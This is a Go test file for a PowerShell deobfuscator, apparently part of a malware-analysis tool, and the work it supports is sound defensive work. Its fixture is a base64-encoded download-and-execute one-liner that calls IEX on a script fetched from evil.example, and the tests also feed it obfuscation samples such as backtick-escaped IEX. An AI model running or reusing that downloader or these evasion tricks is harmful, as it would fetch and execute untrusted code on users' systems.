package techniques

import (
	"strings"
	"testing"
)

// base64(UTF-16LE("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/s.ps1')"))
const encodedDownloader = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBzAC4AcABzADEAJwApAA=="

func TestPSDeobfuscator_CanApply(t *testing.T) {
	d := NewPSDeobfuscator()

	tests := []struct {
		name          string
		content       string
		want          bool
		minConfidence float64
	}{
		{
			name:          "encoded command",
			content:       "powershell -enc " + encodedDownloader,
			want:          true,
			minConfidence: 0.4,
		},
		{
			name:          "compression stream stub",
			content:       `$gz = New-Object System.IO.Compression.GzipStream($ms, [IO.Compression.CompressionMode]::Decompress)`,
			want:          true,
			minConfidence: 0.3,
		},
		{
			name:          "backtick escapes with invoke",
			content:       "Invoke`-Expression $cmd",
			want:          true,
			minConfidence: 0.2,
		},
		{
			name:          "replace chain",
			content:       `$s = $raw -replace 'xx', ''`,
			want:          true,
			minConfidence: 0.2,
		},
		{
			name:    "unrelated text",
			content: "a short shopping list for tuesday",
			want:    false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			confidence, ok := d.CanApply(tt.content)
			if ok != tt.want {
				t.Fatalf("CanApply() = %v, want %v", ok, tt.want)
			}
			if ok && confidence < tt.minConfidence {
				t.Errorf("confidence = %v, want >= %v", confidence, tt.minConfidence)
			}
		})
	}
}

func TestPSDeobfuscator_DecodesEncodedCommand(t *testing.T) {
	d := NewPSDeobfuscator()

	result, err := d.Apply("powershell -EncodedCommand " + encodedDownloader)
	if err != nil {
		t.Fatalf("Apply() error = %v", err)
	}
	if !result.Success {
		t.Fatal("Success = false, want true")
	}
	if !strings.Contains(result.Output, "DownloadString('http://evil.example/s.ps1')") {
		t.Errorf("Output = %q, want decoded downloader", result.Output)
	}
	if strings.Contains(result.Output, encodedDownloader) {
		t.Error("encoded payload should be replaced by its decoding")
	}
}

func TestPSDeobfuscator_StripsBackticks(t *testing.T) {
	d := NewPSDeobfuscator()

	result, err := d.Apply("I`E`X $payload")
	if err != nil {
		t.Fatalf("Apply() error = %v", err)
	}
	if strings.Contains(result.Output, "`") {
		t.Errorf("Output = %q, backticks should be stripped", result.Output)
	}
}

func TestPSDeobfuscator_NormalizesCmdletCase(t *testing.T) {
	d := NewPSDeobfuscator()

	result, err := d.Apply("iNvOkE-eXpReSsIoN $a; nEw-oBjEcT Net.WebClient")
	if err != nil {
		t.Fatalf("Apply() error = %v", err)
	}
	if !strings.Contains(result.Output, "Invoke-Expression") {
		t.Errorf("Output = %q, want canonical Invoke-Expression", result.Output)
	}
	if !strings.Contains(result.Output, "New-Object") {
		t.Errorf("Output = %q, want canonical New-Object", result.Output)
	}
}

func TestPSDeobfuscator_FoldsConcat(t *testing.T) {
	d := NewPSDeobfuscator()

	result, err := d.Apply(`$cmd = 'Down' + 'load' + 'String'`)
	if err != nil {
		t.Fatalf("Apply() error = %v", err)
	}
	if !strings.Contains(result.Output, "'DownloadString'") {
		t.Errorf("Output = %q, want folded literal", result.Output)
	}
}

func TestPSDeobfuscator_AnnotatesReplaceChains(t *testing.T) {
	d := NewPSDeobfuscator()

	result, err := d.Apply(`$s -replace 'ZZ', ''`)
	if err != nil {
		t.Fatalf("Apply() error = %v", err)
	}
	if !strings.Contains(result.Output, "replaces 'ZZ'") {
		t.Errorf("Output = %q, want replace annotation", result.Output)
	}
}
